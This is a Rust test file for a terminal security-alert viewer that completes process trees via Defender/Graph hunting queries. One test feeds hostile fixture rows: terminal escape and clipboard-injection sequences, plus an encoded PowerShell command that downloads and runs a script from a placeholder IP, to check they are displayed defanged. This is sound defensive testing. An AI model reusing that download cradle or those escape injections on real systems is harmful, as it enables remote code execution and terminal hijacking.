//! The tree of an alert completed by hunting: asked for once, kept, given up, refused.

use jiff::SignedDuration;
use serde_json::Value;
use serde_json::json;
use vigie::app;
use vigie::app::Effect;
use vigie::app::Event;
use vigie::app::hunting::HuntId;
use vigie::domain::token::Api;
use vigie::sim::Endpoint;
use vigie::sim::Fault;
use vigie::view::linear::Voice;

use crate::both::DEFENDER;
use crate::both::Service;
use crate::both::on_both;
use crate::operator::Operator;

on_both! {
    what_hunting_tells_comes_into_the_tree,
    a_completed_tree_is_kept_with_its_age,
    a_missing_permission_is_named_and_nothing_is_sent,
    what_is_given_up_changes_nothing_later,
    trouble_is_told_below_the_tree_and_nothing_is_repeated,
}

/// At the tree of the alert a macro in an invoice set off.
fn at_the_tree(service: &'static Service, width: u16, height: u16) -> Operator {
    let mut operator = Operator::on(service, width, height, Operator::quiet(300));
    operator.starts();
    at_the_tree_of(&mut operator);
    operator
}

fn at_the_tree_of(operator: &mut Operator) {
    operator
        .press("/ o f f i c e space a p p enter enter")
        .rests()
        .press("] ] +")
        .sees("[Tree]");
}

/// The queries so far.
fn queries(operator: &Operator) -> Vec<(HuntId, String)> {
    let effects = operator.effects.iter();
    let queries = effects.filter_map(|effect| match effect {
        Effect::Hunt { hunt, query } => Some((*hunt, query.clone())),
        _ => None,
    });
    queries.collect()
}

/// An answer of the service to the next query, with these rows.
fn answers_with(operator: &Operator, rows: &[Value]) {
    let body = match operator.service.api {
        Api::Defender => json!({ "Schema": [], "Results": rows }),
        Api::Graph => json!({ "schema": [], "results": rows }),
    };
    answers(operator, 200, &body.to_string());
}

fn answers(operator: &Operator, code: u16, body: &str) {
    let fault = Fault::Status {
        code,
        headers: Vec::new(),
        body: body.to_owned(),
    };
    operator.script().next(hunting(operator.service), fault);
}

/// What a script calls a query.
fn hunting(service: &Service) -> Endpoint {
    match service.api {
        Api::Defender => Endpoint::Hunting,
        Api::Graph => Endpoint::GraphHunting,
    }
}

/// The row with the cursor, which is the last of the screen that has one; beside it may
/// stand another pane.
fn stood_on(operator: &Operator) -> String {
    let screen = operator.screen();
    let row = screen.lines().rfind(|line| line.starts_with("> "));
    let row = row.and_then(|row| row.split("  ").find(|part| part.contains(".exe")));
    row.unwrap_or_default().to_owned()
}

/// Goes down to the row with this text.
fn goes_down_to(operator: &mut Operator, text: &str) {
    for _ in 0..60 {
        if stood_on(operator).contains(text) {
            return;
        }
        operator.press("j");
    }
    panic!("no {text} on\n{}", operator.screen());
}

#[test]
fn the_tree_before_and_after_at_every_size() {
    for (width, height) in [(80, 24), (120, 40), (200, 60)] {
        let mut operator = at_the_tree(&DEFENDER, width, height);
        operator.sees("T completes it by hunting");
        insta::assert_snapshot!(format!("{width}x{height}_to_complete"), operator.screen());
        operator.press("T").sees("completed by hunting just now");
        insta::assert_snapshot!(format!("{width}x{height}_completed"), operator.screen());
    }
}

fn what_hunting_tells_comes_into_the_tree(service: &'static Service) {
    let mut operator = at_the_tree(service, 120, 60);
    operator.sees("not in the evidence");
    goes_down_to(&mut operator, "powershell.exe");
    let before = stood_on(&operator);
    operator
        .press("T")
        .sees("completed by hunting just now")
        .sees_no("not in the evidence");
    operator.sees("userinit.exe").sees("from hunting");
    // Who stood on a process stands on it still, wherever it went.
    assert_eq!(stood_on(&operator), before);
    let [(_, query)] = &queries(&operator)[..] else {
        panic!("one query");
    };
    assert!(query.starts_with("DeviceProcessEvents\n"), "{query}");
    // The query is of the budget of all queries, and the drawer knows nothing of it.
    operator.press("H").sees("44/min 1,499/h left");
    operator.press("esc : h u n t - d r a w e r enter");
    operator.sees_no("hunt 1 of");
    // What was found is evidence's equal: it is unfolded, hunted for and copied from.
    operator.press("esc");
    goes_down_to(&mut operator, "schtasks.exe");
    operator
        .press("enter")
        .sees("path")
        .sees("sha256")
        .sees("made by  Microsoft Corporation");
    operator.press("y").sees("copy v value").press("v");
    assert!(matches!(
        operator.effects.last(),
        Some(Effect::CopyText(text)) if text == "schtasks.exe"
    ));
    operator.press("H p").sees("hunt 1 of 1");
    let (_, query) = queries(&operator).pop().unwrap();
    assert!(query.contains("FileName =~ 'schtasks.exe'"), "{query}");
    operator.press("esc").sees("from hunting");
}

fn a_completed_tree_is_kept_with_its_age(service: &'static Service) {
    let mut operator = at_the_tree(service, 160, 40);
    operator.press("T").sees("completed by hunting just now");
    operator.advance(SignedDuration::from_mins(3));
    operator.sees("completed by hunting 2m ago");
    // Polls read the alert anew; another alert is looked at and left again.
    let id = operator.selected_id();
    operator.change(&id, json!({ "assignedTo": "eve@contoso.example" }));
    operator.advance(SignedDuration::from_secs(31));
    operator
        .sees("completed by hunting 2m ago")
        .sees("from hunting");
    operator.press("h j").rests();
    operator.press("l");
    operator
        .sees("T completes it by hunting")
        .sees_no("from hunting");
    operator.press("h k").rests();
    operator
        .sees("completed by hunting 2m ago")
        .sees("from hunting");
    assert_eq!(queries(&operator).len(), 1);
    // Whoever asks again is answered again.
    operator.press("l T").sees("completed by hunting just now");
    assert_eq!(queries(&operator).len(), 2);
}

fn a_missing_permission_is_named_and_nothing_is_sent(service: &'static Service) {
    let mut operator = Operator::on(service, 160, 40, Operator::quiet(300));
    match service.api {
        Api::Defender => operator.script().grant(&["Alert.ReadWrite"]),
        Api::Graph => {
            let script = operator.script();
            script.grant_on_graph(&["SecurityAlert.ReadWrite.All"]);
        }
    }
    operator.starts();
    at_the_tree_of(&mut operator);
    let permission = match service.api {
        Api::Defender => "AdvancedQuery.Read",
        Api::Graph => "ThreatHunting.Read.All",
    };
    let why = format!("the token lacks {permission}: t shows what it has");
    operator.sees(&format!("not completed by hunting: {why}"));
    operator.press("?").sees(&format!("({why})")).press("esc");
    operator.press("T");
    let said = operator.state.notices.in_sight().unwrap().text.clone();
    assert_eq!(said, why);
    assert!(queries(&operator).is_empty());
}

/// A key whose effects are not performed: whatever is asked goes on.
fn presses_and_waits(operator: &mut Operator, key: &str) -> Vec<Effect> {
    let now = operator.now();
    let key = Event::KeyPressed(key.parse().unwrap());
    app::update(&mut operator.state, key, now)
}

fn what_is_given_up_changes_nothing_later(service: &'static Service) {
    let mut operator = at_the_tree(service, 160, 40);
    for key in ["T", "esc"] {
        let effects = presses_and_waits(&mut operator, "T");
        let [Effect::Hunt { hunt, .. }] = effects[..] else {
            panic!("{effects:?}");
        };
        operator
            .sees("hunting: asked at 14:02, no answer yet; esc gives it up")
            .press(key)
            .sees("given up before it answered; T asks again")
            .sees("the service may count it all the same");
        assert_eq!(operator.effects.last(), Some(&Effect::CancelHunt(hunt)));
        // It answers all the same.
        let late = std::sync::Arc::default();
        operator.happens(Event::Hunted(hunt, Ok(late)));
        operator.sees("given up before it answered");
    }
    // With nothing to give up esc goes back.
    operator.press("esc esc");
    let scopes = operator.state.scopes();
    assert_eq!(scopes.first().unwrap().title(), "list of alerts");
}

fn trouble_is_told_below_the_tree_and_nothing_is_repeated(service: &'static Service) {
    let mut operator = at_the_tree(service, 160, 40);
    let message = "'take' operator: no. [line:position=10:2]. Fix syntax errors in your query.";
    let wrong = json!({ "error": { "code": "BadRequest", "message": message } });
    answers(&operator, 400, &wrong.to_string());
    operator
        .press("T")
        .sees("not completed: the query was refused: 'take' operator: no (line 10, column 3)");
    let throttled = json!({ "error": {
        "code": "TooManyRequests",
        "message": "You can send requests again in 8 seconds.",
    } });
    answers(&operator, 429, &throttled.to_string());
    operator
        .press("T")
        .sees("not completed: too many calls (429)");
    operator
        .press("T")
        .sees("the service takes queries again in");
    assert_eq!(queries(&operator).len(), 2);
    operator.advance(SignedDuration::from_secs(9));
    operator.press("T").sees("completed by hunting just now");
    // What is there stays when asking again fails.
    operator.script().next(hunting(service), Fault::Reset);
    operator
        .press("T")
        .sees("of the device not shown; not completed: ")
        .sees("from hunting")
        .press("L")
        .sees("the tree was not completed: the query was refused");
    assert_eq!(queries(&operator).len(), 4);
}

#[test]
fn the_drawer_keeps_its_result_and_an_answer_out_of_sight_is_told() {
    let mut operator = at_the_tree(&DEFENDER, 160, 40);
    operator
        .press("H u")
        .sees("hunt 1 of 1: the user's sign-ins");
    operator.press("esc");
    let effects = presses_and_waits(&mut operator, "T");
    let [Effect::Hunt { hunt, .. }] = effects[..] else {
        panic!("{effects:?}");
    };
    // While that is awaited the drawer has its own, and may ask.
    operator.press("H r").sees("hunt 1 of 1").press("esc H d");
    operator.sees("hunt 2 of 2").press("esc + + h j").rests();
    operator.happens(Event::Hunted(hunt, Ok(std::sync::Arc::default())));
    operator.sees("the tree of `Suspicious process executed by a Microsoft Office application` is completed by hunting");
    operator
        .press("H r")
        .sees("hunt 2 of 2: everything on this device");
}

#[test]
fn hostile_rows_are_drawn_harmless_and_too_many_are_said() {
    let mut operator = at_the_tree(&DEFENDER, 160, 40);
    operator.press("+");
    // Of the device, but with nothing to do with the alert; and a circle.
    let mut rows: Vec<Value> = (1..=1_000)
        .map(|number| {
            json!({
                "ProcessId": 9_000_000 + number,
                "ProcessCreationTime": null,
                "FileName": "\u{1b}[31m\u{202e}exe.x",
                "InitiatingProcessId": 9_000_000 + number % 1_000 + 1,
                "InitiatingProcessCreationTime": "0001-01-01T00:00:00",
                "InitiatingProcessFileName": "\u{1b}[31m\u{202e}exe.x",
            })
        })
        .collect();
    answers_with(&operator, &rows);
    operator
        .press("T")
        .sees("nothing to add; 1,000 others of the device not shown");
    operator.sees("1,000 rows, the most asked for: some may be missing");
    // Below the evidence, with a command line that would like to be obeyed.
    let shown = operator.state.looking.shown().unwrap();
    let node = shown.prepared.tree.nodes().last().unwrap().clone();
    let told = json!({
        "ProcessId": 7,
        "ProcessCreationTime": "2026-11-22T14:00:00Z",
        "FileName": "a\u{1b}]52;c;ZXZpbA==\u{7}.exe",
        "ProcessCommandLine": "a.exe \u{1b}[2J\n-enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA5AC8AYQAnACkA",
        "InitiatingProcessId": node.pid,
        "InitiatingProcessCreationTime": node.created.map(|created| created.to_string()),
    });
    rows.truncate(10);
    rows.push(told);
    answers_with(&operator, &rows);
    operator
        .press("T")
        .sees("a\\x1b]52;c;ZXZpbA==\\x07.exe 7  from hunting")
        .sees("D> ")
        .sees("hxxp://203[.]0[.]113[.]9/a")
        .sees("completed by hunting just now, 1 process; 11 others");
    insta::assert_snapshot!("160x40_hostile", operator.screen());
}

/// Whoever hears it is told what came, and how complete the tree is.
#[test]
fn a_completed_tree_is_told_in_lines() {
    let mut operator = at_the_tree(&DEFENDER, 80, 24);
    let mut voice = Voice::default();
    voice.tell(&operator.state);
    operator.press("T");
    let told = voice.tell(&operator.state).join("\n");
    assert!(told.contains("userinit.exe 1080  from hunting"), "{told}");
    assert!(
        told.contains("completed by hunting at 14:02, 8 processes"),
        "{told}"
    );
    assert!(told.contains("level 6: schtasks.exe"), "{told}");
    operator.advance(SignedDuration::from_mins(3));
    let told = voice.tell(&operator.state).join("\n");
    assert!(!told.contains("hunting"), "{told}");
}

#[test]
fn nine_alerts_are_too_many_to_be_kept_and_waited_for() {
    let mut operator = Operator::at(120, 40, Operator::quiet(300));
    operator.starts();
    operator.press("0 enter ] ]").rests();
    let mut asked = 0;
    while asked < 8 {
        let effects = presses_and_waits(&mut operator, "T");
        asked += effects
            .iter()
            .filter(|effect| matches!(effect, Effect::Hunt { .. }))
            .count();
        operator.press("h j").rests().press("l");
    }
    for _ in 0..20 {
        let can = operator.screen().contains("T completes it by hunting");
        if can {
            break;
        }
        operator.press("h j").rests().press("l");
    }
    assert_eq!(presses_and_waits(&mut operator, "T"), []);
    operator
        .resizes(120, 40)
        .sees("too many trees wait for an answer");
}

/// The token is refused once: it is renewed, and the query is asked again by nobody but a
/// person.
#[test]
fn a_refused_token_is_renewed_and_the_query_is_not_repeated() {
    let mut operator = at_the_tree(&DEFENDER, 160, 40);
    operator.script().next(
        Endpoint::Hunting,
        Fault::Status {
            code: 401,
            headers: Vec::new(),
            body: String::new(),
        },
    );
    operator.press("T").sees("not completed: ");
    assert_eq!(queries(&operator).len(), 1);
    assert!(
        operator
            .effects
            .iter()
            .filter(|effect| matches!(effect, Effect::RenewToken(_)))
            .count()
            > 1
    );
    operator.press("T").sees("completed by hunting just now");
}

#[test]
fn an_alert_that_tells_too_little_says_what_is_missing() {
    let mut operator = Operator::at(120, 40, Operator::quiet(300));
    operator.starts().press("enter ] ]").press("T");
    let said = operator.state.notices.in_sight().unwrap().text.clone();
    assert_eq!(said, "the evidence is not read yet");
    // Sign-ins that failed name no process.
    operator
        .rests()
        .press("esc / f a i l e d space l o g o n s space o v e r enter enter")
        .rests();
    operator
        .sees("[Tree]")
        .sees("no process is among the evidence");
    operator.sees("not completed by hunting: no process of the evidence has a number");
    operator.press("T");
    let said = operator.state.notices.in_sight().unwrap().text.clone();
    assert_eq!(said, "no process of the evidence has a number");
    assert!(queries(&operator).is_empty());
}
